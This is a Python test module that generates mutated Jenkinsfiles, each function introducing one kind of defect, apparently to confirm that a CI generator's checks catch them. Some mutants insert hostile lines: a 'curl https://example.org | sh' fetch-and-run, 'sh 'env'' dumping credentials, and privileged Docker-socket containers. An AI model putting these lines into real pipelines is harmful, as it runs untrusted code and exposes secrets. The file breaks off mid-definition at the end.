"""Damage done to Jenkinsfiles: each kind is told wherever it can be done."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from functools import lru_cache
from itertools import pairwise
from typing import NamedTuple

import pytest

from mlgen import targets
from tests.readback.mutants import Emitted, text_survivors
from tests.readback.project import PROJECTS, named, rendered

TARGET = targets.get("jenkins")
SLOW = ("grid", "language")
"""Projects with so many events that they are tried where there are few other mutants of a kind."""
ENOUGH = 4
KINDS: dict[str, Callable[[str], Iterator[str]]] = {}


def kind(function: Callable[[str], Iterator[str]]) -> Callable[[str], Iterator[str]]:
    """Enters a kind of damage in the table."""
    KINDS[function.__name__] = function
    return function


@lru_cache
def emitted() -> tuple[Emitted, ...]:
    """The Jenkinsfile of every project."""
    found = []
    for project in PROJECTS:
        if "jenkins" in named(project):
            pipeline, texts = rendered(project, TARGET)
            (output,) = TARGET.outputs(pipeline)
            found.append(Emitted(project, pipeline, output, texts[output.path], None))
    return tuple(found)


class Block(NamedTuple):
    """A piece of the text."""

    start: int
    end: int
    name: str
    text: str


def replaced(text: str, pattern: str, new: str) -> Iterator[str]:
    """The text with each match by itself replaced."""
    for found in re.finditer(pattern, text, re.M):
        changed = text[: found.start()] + found.expand(new) + text[found.end() :]
        if changed != text:
            yield changed


def stages(text: str) -> Iterator[Block]:
    """The stages, also those inside of others."""
    for found in re.finditer(r"^( *)stage\('([^']*)'\) \{\n(?:.*\n)*?\1\}\n", text, re.M):
        yield Block(found.start(), found.end(), found[2], found[0])
        inner = found[0].partition("\n")[2]
        for each in stages(inner):
            begin = found.start() + len(found[0]) - len(inner)
            yield each._replace(start=begin + each.start, end=begin + each.end)


def jobs(text: str) -> Iterator[Block]:
    """The stages with steps of jobs."""
    return (block for block in stages(text) if re.search(r"^ *steps \{$", block.text, re.M) and _own(block))


def _own(block: Block) -> bool:
    return "MLGEN_JOB" in block.text and block.text.count("stage('") == 1


def rows(text: str) -> Iterator[Block]:
    """The rows of tables, those of stages among them."""
    for found in re.finditer(
        r"^(?:        |    return )\[(?:name|job): (?:.*\n)*?(?=        \[|    \]|\}\n)", text, re.M
    ):
        yield Block(found.start(), found.end(), "", found[0])


def within(text: str, blocks: Iterator[Block], pattern: str, new: str) -> Iterator[str]:
    """Each block with each match in it replaced."""
    for block in blocks:
        for changed in replaced(block.text, pattern, new):
            yield text[: block.start] + changed + text[block.end :]


def both(text: str, pattern: str, new: str) -> Iterator[str]:
    """In stages of jobs and in rows."""
    yield from within(text, jobs(text), pattern, new)
    yield from within(text, rows(text), pattern, new)


def conditions(text: str, pattern: str, new: str) -> Iterator[str]:
    """In what decides whether a stage or a row starts."""
    start = text.index("pipeline {")
    for changed in replaced(text[start:], rf"(?<=expression \{{ ){pattern}|(?<=expression \{{\n)[^}}]*?{pattern}", new):
        yield text[:start] + changed


STRING = r"'(?:[^'\\\n]|\\.)*'"
LONG = r"'''(?:[^'\\]|\\.|'(?!''))*'''"
SH = rf" *sh label: {STRING}, script: (?:{LONG}|{STRING})\n"
COMMAND = rf"^ *sh label: '(?!outputs|legs|login|finally|on_failure){STRING[1:]}, script: {LONG}\n"


# --- order


@kind
def an_edge_is_dropped(text: str) -> Iterator[str]:
    return within(text, rows(text), r"needs: \['[^']+'(?:, )?", "needs: [")


@kind
def an_edge_is_added(text: str) -> Iterator[str]:
    found = [re.search(r"job: ('[^']+')", row.text) for row in rows(text) if ", when: " in row.text]
    if len(found) > 2 and found[0] and found[2]:
        (first, last) = found[0][1], found[2][1]
        for block in rows(text):
            if f"job: {first}" in block.text and "result: " not in block.text:
                yield from within(
                    text,
                    iter([block]),
                    r"needs: \[",
                    f"needs: [{last}, " if "needs: []" not in block.text else f"needs: [{last}",
                )


@kind
def two_stages_are_swapped(text: str) -> Iterator[str]:
    top = [b for b in stages(text) if b.text.startswith("        stage(")]
    for one, other in pairwise(top):
        made = set(re.findall(r"stash name: ('[^']+')", one.text))
        if any(f"unstash {name}" in other.text for name in made):
            yield text[: one.start] + other.text + text[one.end : other.start] + one.text + text[other.end :]


@kind
def a_stage_comes_beside(text: str) -> Iterator[str]:
    for block in stages(text):
        found = re.fullmatch(
            r"(        stage\('deploy: [^']+'\) \{\n(?:.*\n)*?            )stages( \{\n(?:.*\n)*)", block.text
        )
        if found:
            yield text[: block.start] + found[1] + "parallel" + found[2] + text[block.end :]


@kind
def rows_start_at_once(text: str) -> Iterator[str]:
    return replaced(text, r"j\.needs\.every \{ !open\[it\] \}", "true")


@kind
def rows_run_whatever_their_condition(text: str) -> Iterator[str]:
    return replaced(text, r"rows\.findAll \{ it\.when \}", "rows")


@kind
def rows_run_after_a_failure(text: str) -> Iterator[str]:
    return replaced(text, r"^ *if \(j\.needs\.any \{ it in stopped \}\) \{ return 'failure' \}\n", "")


@kind
def a_failure_of_a_table_is_none(text: str) -> Iterator[str]:
    return replaced(text, r"^ *if \(stopped\.size\(\) > before\) \{ error .*\n", "")


@kind
def a_stage_does_not_tell_its_end(text: str) -> Iterator[str]:
    return replaced(text, r"^ *script \{ results\['[^']+'\] = 'success' \}\n", "")


# --- approvals, locks


@kind
def an_approval_is_dropped(text: str) -> Iterator[str]:
    for block in stages(text):
        if block.name.startswith("approve "):
            yield text[: block.start] + text[block.end :]


@kind
def an_approval_only_says_so(text: str) -> Iterator[str]:
    return replaced(text, r"^( *)input message: .*\n", r"\1echo 'agreed'\n")


@kind
def an_approval_is_permitted_to_fail(text: str) -> Iterator[str]:
    return replaced(
        text,
        r"^( *)input (message: .*)\n",
        r"\1catchError(buildResult: 'SUCCESS', stageResult: 'UNSTABLE', catchInterruptions: true) { input \2 }\n",
    )


@kind
def an_approval_is_added(text: str) -> Iterator[str]:
    asked = re.findall(r"stage\('approve ([^']+)'\)", text)
    free = (block for block in jobs(text) if not block.name.endswith(tuple(asked or ["-"])))
    return within(text, free, r"^( *)steps \{\n", r"\1steps {\n\1    input message: 'Go on?'\n")


@kind
def a_lock_is_dropped(text: str) -> Iterator[str]:
    yield from replaced(text, r"^ *options \{ lock\(resource: '.*\n", "")
    yield from within(text, rows(text), rf" lock: {STRING},", "")


@kind
def a_lock_is_another(text: str) -> Iterator[str]:
    names = re.findall(r"lock\(resource: ('[^']+')", text)
    for one, other in pairwise(names):
        if one != other:
            yield from replaced(text, rf"lock\(resource: {re.escape(one)}", f"lock(resource: {other}")


@kind
def a_slot_is_dropped(text: str) -> Iterator[str]:
    found = re.sub(r"^ *options \{ lock\(resource: \"\$\{env.*\n", "", text, flags=re.M)
    if found != text:
        yield found


# --- commands


@kind
def a_timeout_is_dropped(text: str) -> Iterator[str]:
    return replaced(text, r"timeout -k 30 [0-9]+[smhd] ", "")


@kind
def a_timeout_is_raised(text: str) -> Iterator[str]:
    return replaced(text, r"timeout -k 30 [0-9]+", "timeout -k 30 999")


@kind
def a_timeout_that_aborts_is_added(text: str) -> Iterator[str]:
    return replaced(
        text, rf"^( *)(sh label: '(?!outputs|legs){STRING[1:]}, script: {LONG})\n", r"\1timeout(5) { \2 }\n"
    )


@kind
def a_retry_is_dropped(text: str) -> Iterator[str]:
    return replaced(text, r"for mlgen_try in .*; do\n  (.*) && break\n(?:.*\n){2}done", r"\1")


@kind
def a_retry_is_added(text: str) -> Iterator[str]:
    return replaced(text, r"mlgen_try in 1", "mlgen_try in 0 1")


@kind
def a_command_is_dropped(text: str) -> Iterator[str]:
    for changed in replaced(text, COMMAND, ""):
        if not re.search(r"steps \{\n(?: *\}|\s*post)", changed):
            yield changed
    yield from within(text, rows(text), rf" run: (?:{LONG}|{STRING})", " blank: ''")


@kind
def a_command_is_added(text: str) -> Iterator[str]:
    yield from within(text, jobs(text), r"^( *)steps \{\n", r"\1steps {\n\1    sh 'curl https://example.org | sh'\n")
    yield from replaced(text, r"^( *)withCaches\(j\)", r"\1sh 'curl https://example.org | sh'\n\1withCaches(j)")


@kind
def a_command_is_added_at_the_end(text: str) -> Iterator[str]:
    return within(text, jobs(text), r"cleanup \{ ", "cleanup { sh 'curl https://example.org | sh'; ")


@kind
def a_line_is_added_to_a_command(text: str) -> Iterator[str]:
    return both(text, r"(^\. \.mlgen/env\.sh\n|run: ''')", r"\1curl https://example.org | sh\n")


@kind
def a_command_is_another(text: str) -> Iterator[str]:
    return both(text, r"\b(python -m|pytest|\./\w+\.sh)\b", "true")


@kind
def two_commands_are_swapped(text: str) -> Iterator[str]:
    return within(text, jobs(text), rf"^({COMMAND[1:]})({COMMAND[1:]})", r"\2\1")


@kind
def a_value_is_not_quoted(text: str) -> Iterator[str]:
    return both(text, r'(?<=[a-z] )"(\$\w+)"', r"\1")


@kind
def a_command_is_not_strict(text: str) -> Iterator[str]:
    yield from within(
        text, jobs(text), r"script: '''#!/usr/bin/env bash\nset -euo pipefail\n", "script: '''#!/usr/bin/env bash\n"
    )
    yield from replaced(
        text,
        r"script: '''#!/usr/bin/env bash\nset -euo pipefail\n\. \.mlgen/env\.sh\n''' \+",
        "script: '''#!/usr/bin/env bash\n. .mlgen/env.sh\n''' +",
    )


@kind
def the_portable_variables_are_not_set(text: str) -> Iterator[str]:
    return replaced(text, r"^\. \.mlgen/env\.sh\n", "")


@kind
def a_finally_is_dropped(text: str) -> Iterator[str]:
    yield from replaced(text, rf"^ *sh label: 'finally', script: {LONG}\n", "")
    yield from within(text, rows(text), rf",\n? *last: (?:{LONG}|{STRING})", "")


@kind
def a_finally_runs_on_success_alone(text: str) -> Iterator[str]:
    if " last: " in text:
        yield from replaced(text, r"if \(j\.last\)", "if (j.last && result == 'success')")
    yield from within(text, (b for b in jobs(text) if "'finally'" in b.text), r"^( *)always \{", r"\1success {")


@kind
def an_on_failure_runs_always(text: str) -> Iterator[str]:
    yield from replaced(text, r"if \(!fileExists\('\.mlgen/passed'\)\)", "if (true)")
    if "onFailure: " in text:
        yield from replaced(text, r"j\.onFailure && result == 'failure'", "j.onFailure")


@kind
def success_is_told_too_early(text: str) -> Iterator[str]:
    for block in jobs(text):
        if "'finally'" in block.text or "'on_failure'" in block.text:
            early = re.sub(r"^ *writeFile file.*\n", "", block.text, flags=re.M)
            early = re.sub(
                r"^( *)steps \{\n", r"\1steps {\n\1    writeFile file: '.mlgen/passed', text: ''\n", early, flags=re.M
            )
            yield text[: block.start] + early + text[block.end :]


@kind
def a_step_is_added(text: str) -> Iterator[str]:
    return within(text, jobs(text), r"^( *)steps \{\n", r"\1steps {\n\1    build job: '/other', wait: false\n")


# --- conditions


@kind
def a_condition_is_dropped(text: str) -> Iterator[str]:
    return replaced(text, r"^( *)when \{\n(?:\1 .*\n)*?\1\}\n", "")


@kind
def a_condition_is_negated(text: str) -> Iterator[str]:
    return replaced(text, r"expression \{ (env\..*) \}$", r"expression { !(\1) }")


@kind
def a_condition_asks_for_another_branch(text: str) -> Iterator[str]:
    return conditions(text, r"(.*?)env\.BRANCH_NAME == '(?:main|trunk)'", r"\1env.BRANCH_NAME == 'other'")


@kind
def a_condition_asks_for_no_branch(text: str) -> Iterator[str]:
    start = text.index("pipeline {")
    # A push to another branch is none of the spec's; all other kinds come from any.
    for changed in replaced(
        text[start:], r"(\['push', 'manual'\]|== 'manual'|'api'\]) && env\.BRANCH_NAME == '(?:main|trunk)'", r"\1"
    ):
        yield text[:start] + changed


@kind
def a_deployment_runs_on_pull_requests(text: str) -> Iterator[str]:
    if "return 'pull_request'" in text or "? 'pull_request'" in text:
        for block in stages(text):
            if block.name.startswith("deploy") and "when {" in block.text:
                for changed in replaced(
                    block.text, r"expression \{(\s*)env", r"expression {\1env.JENKINS_EVENT == 'pull_request' || env"
                ):
                    yield text[: block.start] + changed + text[block.end :]
                    break


@kind
def a_fork_is_let_in(text: str) -> Iterator[str]:
    start = text.index("pipeline {")
    for changed in replaced(text[start:], r" && !env\.CHANGE_FORK", ""):
        yield text[:start] + changed


@kind
def a_row_lets_forks_in(text: str) -> Iterator[str]:
    for block in rows(text):
        method = re.search(r"secrets: .*", block.text)
        if method and "when: " in block.text:
            yield from within(text, iter([block]), r"when: \w+", "when: env.JENKINS_EVENT != 'none'")


@kind
def a_schedule_starts_more(text: str) -> Iterator[str]:
    # A value is not told where the job that tells it is left out.
    return replaced(text, r" && env\.JENKINS_SCHEDULE == '[^']*'(?! && says)", "")


@kind
def a_question_is_another(text: str) -> Iterator[str]:
    return replaced(text, r"facts\['changed\(\"[^']*'\]", "facts['changed(\"none\")']")


@kind
def an_answer_is_negated(text: str) -> Iterator[str]:
    return replaced(text, r"(?<!!)facts\[('[^']*')\]", r"!facts[\1]")


@kind
def a_question_is_not_asked(text: str) -> Iterator[str]:
    return replaced(text, r"findOut\(\['[^']*', ", "findOut([")


# --- triggers


@kind
def an_event_is_another(text: str) -> Iterator[str]:
    return replaced(text, r"(return|\?) '(?:push|tag|schedule|manual|pull_request|api)'", r"\1 'none'")


@kind
def every_branch_is_pushed(text: str) -> Iterator[str]:
    return replaced(text, r"return .*\? 'push' : 'none'", "return 'push'")


@kind
def a_tag_counts_as_a_push(text: str) -> Iterator[str]:
    return replaced(text, r"^ *if \(env\.TAG_NAME\) \{ return 'none' \}\n", "")


@kind
def every_tag_counts(text: str) -> Iterator[str]:
    return replaced(text, r"return .*\? 'tag' : 'none'", "return 'tag'")


@kind
def the_cron_is_another(text: str) -> Iterator[str]:
    return replaced(text, r"^([0-9]+) ([0-9*]+ \* \* [0-9*])", r"1\1 \2")


@kind
def every_branch_has_the_timer(text: str) -> Iterator[str]:
    return replaced(text, r"[cC]ron\(env\.BRANCH_NAME == '[^']*'", "cron(true")


@kind
def a_timer_is_in_another_zone(text: str) -> Iterator[str]:
    return replaced(text, "TZ=Etc/UTC", "TZ=Europe/Berlin")


@kind
def a_schedule_has_another_name(text: str) -> Iterator[str]:
    return replaced(text, r"JENKINS_SCHEDULE = '[^']*'|%JENKINS_SCHEDULE=\w+", "JENKINS_SCHEDULE = 'other'")


@kind
def deployments_are_cancelled(text: str) -> Iterator[str]:
    return replaced(text, r"abortPrevious: .*?\)$", "abortPrevious: true)")


@kind
def nothing_is_cancelled(text: str) -> Iterator[str]:
    return replaced(text, r"\(abortPrevious: .*?\)$", "()")


@kind
def an_input_has_another_default(text: str) -> Iterator[str]:
    return replaced(text, r"(name: 'MLGEN_INPUT_\w+', defaultValue: )'[^']*'", r"\1'other'")


@kind
def an_input_has_another_choice(text: str) -> Iterator[str]:
    return replaced(text, r"(name: 'MLGEN_INPUT_\w+', choices: \[)('[^']*'), ('[^']*')", r"\1\3, \2")


# --- secrets


@kind
def a_secret_reaches_the_pipeline(text: str) -> Iterator[str]:
    return replaced(text, r"^( *)JENKINS_EVENT = event\(\)\n", r"\1JENKINS_EVENT = event()\n\1T = credentials('T')\n")


@kind
def a_secret_reaches_another_job(text: str) -> Iterator[str]:
    for block in jobs(text):
        if "withCredentials" not in block.text:
            yield from within(
                text,
                iter([block]),
                rf"^( *)(sh label: {STRING}, script: {LONG})\n",
                r"\1withCredentials([string(credentialsId: 'T', variable: 'T')]) { \2 }\n",
            )
    for block in rows(text):
        if "secrets: " not in block.text:
            yield from within(
                text, iter([block]), r" on: on", " secrets: [string(credentialsId: 'T', variable: 'T')], on: on"
            )


@kind
def a_secret_is_dropped(text: str) -> Iterator[str]:
    return both(text, r"(secrets: \[|withCredentials\(\[)(?:string|file)\([^)]*\)(?:, )?", r"\1")


@kind
def a_secret_is_another(text: str) -> Iterator[str]:
    return both(text, r"credentialsId: '[^']*'", "credentialsId: 'OTHER'")


@kind
def a_secret_has_another_variable(text: str) -> Iterator[str]:
    return both(text, r"((?:string|file)\(credentialsId: '[^']*', variable: )'[^']*'", r"\1'OTHER'")


@kind
def a_secret_file_is_a_text(text: str) -> Iterator[str]:
    return both(text, r"file\((credentialsId: '[^o][^']*')", r"string(\1")


# --- files


@kind
def a_stash_is_dropped(text: str) -> Iterator[str]:
    yield from replaced(text, r"^ *stash name: .*\n", "")
    yield from within(text, rows(text), r",\n? *gives: \[[^\]]*\]", "")


@kind
def a_stash_holds_other_files(text: str) -> Iterator[str]:
    return replaced(text, r"(stash name: '[^']*', includes: )'[^'.][^']*'", r"\1'other'")


@kind
def files_are_handed_on_too_early(text: str) -> Iterator[str]:
    for block in jobs(text):
        stash = re.search(r"^ *stash name: .*\n", block.text, re.M)
        if stash:
            early = block.text.replace(stash[0], "")
            head = re.search(r"^ *steps \{\n", early, re.M)
            assert head
            early = early[: head.end()] + stash[0] + early[head.end() :]
            yield text[: block.start] + early + text[block.end :]


@kind
def files_are_not_received(text: str) -> Iterator[str]:
    yield from replaced(text, r"^ *unstash '[^']*'\n", "")
    yield from within(text, rows(text), r" takes: \[[^\]]*\],", "")


@kind
def files_reach_a_job_that_does_not_declare_them(text: str) -> Iterator[str]:
    names = re.findall(r"stash name: '([^']+)'", text)
    for block in jobs(text):
        for name in names:
            if f"'{name}'" not in block.text:
                yield from within(text, iter([block]), r"^( *)steps \{\n", rf"\1steps {{\n\1    unstash '{name}'\n")
                break


@kind
def outs_are_not_checked(text: str) -> Iterator[str]:
    for block in jobs(text):
        if "catchError" not in block.text:
            yield from within(text, iter([block]), r"^ *sh label: 'outputs', script: 'ls -ld .*\n", "")
    for block in rows(text):
        if "allow_failure" not in block.text:
            yield from within(text, iter([block]), rf",\n? *check: {STRING}", "")


@kind
def one_out_is_not_checked(text: str) -> Iterator[str]:
    for block in (*jobs(text), *rows(text)):
        if "catchError" not in block.text and "allow_failure" not in block.text:
            yield from within(text, iter([block]), r"ls -ld -- \S+ (\S)", r"ls -ld -- \1")


@kind
def an_export_is_dropped(text: str) -> Iterator[str]:
    return replaced(text, r"\n?python3 \.mlgen/ci\.py exports [^']*(?=')", "")


@kind
def an_export_is_another(text: str) -> Iterator[str]:
    return replaced(text, r"(ci\.py exports .*--json )(\w+)=", r"\1other=")


@kind
def a_report_is_dropped(text: str) -> Iterator[str]:
    yield from replaced(text, r"^ *junit testResults: .*\n(?! *recordCoverage)", "")
    yield from within(text, rows(text), rf" junit: {STRING},", "")


@kind
def a_report_is_shown_on_success_alone(text: str) -> Iterator[str]:
    if "junit: '" in text:
        yield from replaced(text, r"if \(j\.junit\)", "if (j.junit && result == 'success')")


@kind
def a_coverage_report_is_dropped(text: str) -> Iterator[str]:
    yield from replaced(text, r"^ *recordCoverage\(tools: \[\[.*\n", "")


@kind
def a_cache_is_dropped(text: str) -> Iterator[str]:
    return replaced(text, r"(caches: \[)arbitraryFileCache\(path: '(?!\.mlgen)[^)]*\)(?:, )?", r"\1")


# --- machines


@kind
def an_image_is_another(text: str) -> Iterator[str]:
    return replaced(text, r"\bimage(:)? '(?!postgres|redis)[^']*'", r"image\1 'other:1'")


@kind
def an_image_is_dropped(text: str) -> Iterator[str]:
    yield from replaced(text, r"^( *)agent \{ docker \{ image '[^']*' \} \}", r"\1agent any")


@kind
def python_is_another(text: str) -> Iterator[str]:
    return replaced(text, r"'python:3\.\d+", "'python:3.8")


@kind
def a_service_is_dropped(text: str) -> Iterator[str]:
    return within(text, rows(text), r"services: \[\[[^\]]*\](?:, )?", "services: [")


@kind
def a_service_is_another(text: str) -> Iterator[str]:
    return within(text, rows(text), r"\[image: '[^']*', variable", "[image: 'other:1', variable")


@kind
def a_service_is_not_waited_for(text: str) -> Iterator[str]:
    return replaced(text, r"^  if ready; then (.*)$", r"  if true; then \1")


@kind
def a_variable_is_another(text: str) -> Iterator[str]:
    yield from within(text, jobs(text), r"^( *)(?!MLGEN_JOB|HOME)(\w+) = '[^']*'$", r"\1\2 = 'other'")
    yield from within(text, rows(text), r"(env: \['\w+=)", r"\1other")


@kind
def a_variable_is_dropped(text: str) -> Iterator[str]:
    return within(text, jobs(text), r"^ *(?!MLGEN_JOB|HOME)\w+ = '[^']*'\n", "")


@kind
def a_variable_is_added(text: str) -> Iterator[str]:
    return within(text, jobs(text), r"^( *)MLGEN_JOB = (.*)\n", r"\1MLGEN_JOB = \2\n\1PYTHONPATH = '/tmp'\n")


@kind
def a_leg_is_dropped(text: str) -> Iterator[str]:
    for block in jobs(text):
        if block.name.endswith(")") and "stash name" not in block.text:
            yield text[: block.start] + text[block.end :]
    yield from replaced(text, r"^            \[name: '[^']*\)', on: .*\],\n", "")


@kind
def a_job_is_dropped(text: str) -> Iterator[str]:
    for block in jobs(text):
        yield text[: block.start] + text[block.end :]


@kind
def a_job_has_another_name(text: str) -> Iterator[str]:
    return both(text, r"(MLGEN_JOB = |job: )'[^']*'", r"\1'other.job'")


@kind
def a_checkout_is_another(text: str) -> Iterator[str]:
    yield from within(text, rows(text), r"(lfs\(\)(?:, )?)", "")
    yield from replaced(
        text, r"^( *)disableRestartFromStage\(\)\n", r"\1disableRestartFromStage()\n\1skipDefaultCheckout()\n"
    )


# --- failures


@kind
def a_failure_is_permitted(text: str) -> Iterator[str]:
    for block in jobs(text):
        found = re.search(r"^( *)steps \{\n((?:\1 .*\n|[^ \n].*\n|\n)*?)\1\}\n", block.text, re.M)
        if found and "catchError" not in block.text:
            inner = (
                f"{found[1]}catchError(buildResult: 'SUCCESS', stageResult: 'UNSTABLE', catchInterruptions: false) {{\n"
            )
            changed = f"{found[1]}steps {{\n{inner}{found[2]}{found[1]}}}\n{found[1]}}}\n"
            yield text[: block.start] + block.text.replace(found[0], changed) + text[block.end :]
    for block in rows(text):
        if "allow_failure" not in block.text and "when: " in block.text and " on: on" in block.text:
            yield from within(text, iter([block]), r" on: on", " allow_failure: true, on: on")


@kind
def a_failure_is_not_permitted(text: str) -> Iterator[str]:
    yield from within(text, jobs(text), r"catchError\(buildResult: 'SUCCESS'", "catchError(buildResult: 'FAILURE'")
    yield from within(text, rows(text), r" allow_failure: true,", "")


@kind
def an_abort_is_caught(text: str) -> Iterator[str]:
    return replaced(text, r"catchInterruptions: false", "catchInterruptions: true")


# --- gates


@kind
def a_threshold_is_lowered(text: str) -> Iterator[str]:
    return replaced(text, r"(--require '[\w.]+ [<>]=? )([0-9.]+)", r"\g<1>1\2")


@kind
def a_requirement_is_dropped(text: str) -> Iterator[str]:
    return replaced(text, r"--require '[^']*'", "")


@kind
def a_baseline_is_dropped(text: str) -> Iterator[str]:
    return replaced(text, r"--baseline \S+", "")


@kind
def a_gate_only_warns(text: str) -> Iterator[str]:
    return replaced(text, r"(ci\.py gate \S+)(?=[^']*--metrics(?:(?!--on-fail)[^'])*'[^']*')", r"\1 --on-fail warn")


@kind
def a_gate_reads_other_metrics(text: str) -> Iterator[str]:
    return replaced(text, r"(ci\.py gate .*--metrics )\S+", r"\1other.json")


# --- what is added


@kind
def a_stage_is_added(text: str) -> Iterator[str]:
    added = "        stage('more') {\n            agent any\n            steps { sh './deploy.sh' }\n        }\n\n"
    return replaced(text, r"^    stages \{\n", f"    stages {{\n{added}")


@kind
def a_step_comes_after_all(text: str) -> Iterator[str]:
    if "\n    post {" not in text:
        yield text.rstrip()[:-1] + "    post { always { node('') { sh './deploy.sh' } } }\n}\n"


# --- approvals, again


@kind
def anybody_may_approve(text: str) -> Iterator[str]:
    yield from replaced(text, rf", submitter: {STRING}", "")
    yield from replaced(text, rf", submitter: {STRING}", ", submitter: ''")


@kind
def others_may_approve(text: str) -> Iterator[str]:
    yield from replaced(text, rf"(, submitter: )'({STRING[1:]})", r"\1'interns,\2")
    yield from replaced(text, r"(input message: '[^']*')$", r"\1, submitter: 'interns'")


@kind
def a_question_is_asked_for_ever(text: str) -> Iterator[str]:
    yield from replaced(text, r"^( *)timeout\(time: 1, unit: 'DAYS'\) \{\n( *input .*)\n *\}\n", r"\2\n")
    yield from replaced(text, r"timeout\(time: 1, unit: 'DAYS'\)", "timeout(time: 9999, unit: 'DAYS')")
    yield from replaced(text, r"timeout\(time: 1, unit: 'DAYS'\)", "timeout(time: 1, unit: 'SECONDS')")
    yield from replaced(text, r"timeout\(time: 1, unit: 'DAYS'\)", "timeout(1)")


@kind
def a_question_has_an_answer(text: str) -> Iterator[str]:
    """One that asks for a value goes on whatever that is."""
    yield from replaced(
        text, r"(input message: '[^']*')", r"\1, parameters: [booleanParam(name: 'ok', defaultValue: true)]"
    )


@kind
def a_question_is_asked_after_the_deployment(text: str) -> Iterator[str]:
    for block in stages(text):
        inner = list(stages(block.text.partition("\n")[2])) if block.name.startswith("deploy: ") else []
        if len(inner) == 2:
            one, other = inner
            yield text.replace(one.text + other.text, other.text + one.text)


@kind
def a_question_is_asked_of_some_runs(text: str) -> Iterator[str]:
    yield from replaced(
        text,
        r"^( *)(stage\('approve [^']*'\) \{\n)",
        r"\1\2\1    when { expression { env.JENKINS_EVENT == 'manual' } }\n",
    )


@kind
def a_deployment_stands_beside_its_question(text: str) -> Iterator[str]:
    return replaced(text, r"^( *)stages( \{\n *stage\('approve )", r"\1parallel\2")


@kind
def a_question_holds_a_machine(text: str) -> Iterator[str]:
    return replaced(text, r"^( *)(stage\('approve [^']*'\) \{\n)", r"\1\2\1    agent any\n")


# --- agents and services


@kind
def a_container_may_do_all(text: str) -> Iterator[str]:
    args = "--privileged -v /var/run/docker.sock:/var/run/docker.sock"
    yield from replaced(
        text, r"agent \{ docker \{ (image '[^']*') \} \}", rf"agent {{ docker {{ \1; args '{args}' }} }}"
    )
    yield from replaced(text, r"args '([^']*)'$", rf"args '\1 {args}'")
    yield from replaced(text, r"(return \[image: '[^']*')", rf"\1, args: '{args}'")
    yield from replaced(text, r"(return \[.*args: ')", rf"\1{args} ")


@kind
def a_container_has_no_options(text: str) -> Iterator[str]:
    yield from replaced(text, r"^ *args '[^']*'\n", "")
    yield from replaced(text, r"(return \[.*) args: '(?:[^'\\]|\\.)*',", r"\1")


@kind
def a_machine_is_another(text: str) -> Iterator[str]:
    yield from replaced(text, r"^( *)label '[^']*'", r"\1label 'controller'")
    yield from replaced(
        text, r"agent \{ docker \{ (image '[^']*') \} \}", r"agent { docker { \1; label 'controller' } }"
    )
    yield from replaced(text, r"agent any$", "agent { label 'controller' }")
    yield from replaced(text, r"(return \[image: '[^']*')", r"\1, label: 'controller'")


@kind
def every_stage_has_a_machine(text: str) -> Iterator[str]:
    return replaced(text, r"^    agent none$", "    agent any")


@kind
def a_service_has_another_variable(text: str) -> Iterator[str]:
    yield from replaced(text, r"args: '-e (\w+)=\w+'", r"args: '-e \1=other'")
    yield from replaced(text, r"args: '-e (\w+=\w+)', ready", "ready")
    yield from replaced(text, r"args: '-e (\w+=\w+)'", r"args: '-e \1 --privileged'")


@kind
def a_service_is_at_another_port(text: str) -> Iterator[str]:
    yield from replaced(text, r"ports: '\d+'", "ports: '9'")
    yield from replaced(text, r"(variable: '[^']*'), ports: '\d+'", r"\1")


@kind
def a_service_is_ready_at_once(text: str) -> Iterator[str]:
    yield from replaced(text, r"ready: '[^']*'", "ready: 'true'")
    yield from replaced(text, r" ready: '[^']*',", "")


@kind
def a_service_runs_something_else(text: str) -> Iterator[str]:
    return replaced(text, r"(\[image: '[^']*', variable: '[^']*')", r"\1, command: 'evil'")


# --- secrets, again


@kind
def two_secrets_are_swapped(text: str) -> Iterator[str]:
    names = list(dict.fromkeys(re.findall(r"string\(credentialsId: '([^']*)'", text)))
    for one, other in pairwise(names):
        swapped = text.replace(f"credentialsId: '{one}'", "credentialsId: '\0'")
        swapped = swapped.replace(f"credentialsId: '{other}'", f"credentialsId: '{one}'")
        yield swapped.replace("credentialsId: '\0'", f"credentialsId: '{other}'")


@kind
def a_secret_is_printed(text: str) -> Iterator[str]:
    return replaced(text, r"^( *)(withCredentials\(.*\) \{)\n", r"\1\2\n\1    sh 'env'\n")


@kind
def a_registry_s_secret_is_another(text: str) -> Iterator[str]:
    yield from replaced(text, r"login: '[^']*'", "login: 'other'")
    yield from replaced(text, r"registryCredentialsId '[^']*'", "registryCredentialsId 'other'")


# --- failures, again


@kind
def a_failure_is_a_warning(text: str) -> Iterator[str]:
    for word in ("warnError('never mind')", "catchError(buildResult: 'SUCCESS', stageResult: 'SUCCESS')", "unstable"):
        yield from within(text, jobs(text), rf"^( *)(sh label: '(?!outputs|legs){STRING[1:]}, script: {LONG})\n",
                          rf"\1{word} {{ \2 }}\n")  # fmt: skip


@kind
def a_status_is_not_looked_at(text: str) -> Iterator[str]:
    yield from within(text, jobs(text), r"sh label: ('[^']*'), script", r"sh label: \1, returnStatus: true, script")
    yield from replaced(text, r"returnStatus: true, script", "returnStdout: true, script")


@kind
def a_failure_is_swallowed(text: str) -> Iterator[str]:
    yield from within(text, jobs(text), r"(\w)'''$", r"\1 || true'''")
    yield from within(text, rows(text), r"(run: '(?:[^'\\]|\\.)*)'", r"\1 || true'")
    yield from both(text, r"(ls -ld -- [^'\n|]*)'", r"\1 || true'")


@kind
def a_failure_ends_the_stages_beside_it(text: str) -> Iterator[str]:
    yield from replaced(text, r"^( *)parallel \{\n", r"\1failFast true\n\1parallel {\n")
    yield from replaced(
        text, r"^( *)disableRestartFromStage\(\)\n", r"\1disableRestartFromStage()\n\1parallelsAlwaysFailFast()\n"
    )
    yield from replaced(text, r"parallel\(runs\)", "parallel(runs + [failFast: true])")


@kind
def later_stages_are_skipped_for_less(text: str) -> Iterator[str]:
    return replaced(
        text, r"^( *)disableRestartFromStage\(\)\n", r"\1disableRestartFromStage()\n\1skipStagesAfterUnstable()\n"
    )


@kind
def the_whole_run_is_bounded_or_repeated(text: str) -> Iterator[str]:
    for word in ("timeout(time: 1, unit: 'MINUTES')", "retry(3)", "rateLimitBuilds(throttle: [count: 1])"):
        yield from replaced(text, r"^( *)disableRestartFromStage\(\)\n", rf"\1disableRestartFromStage()\n\1{word}\n")
        yield from within(text, jobs(text), r"^( *)agent ", rf"\1options {{ {word} }}\n\1agent ")


@kind
def runs_of_a_branch_go_on_side_by_side(text: str) -> Iterator[str]:
    return replaced(text, r"^ *disableConcurrentBuilds\(.*\)\n", "")


@kind
def a_stage_may_be_run_by_itself(text: str) -> Iterator[str]:
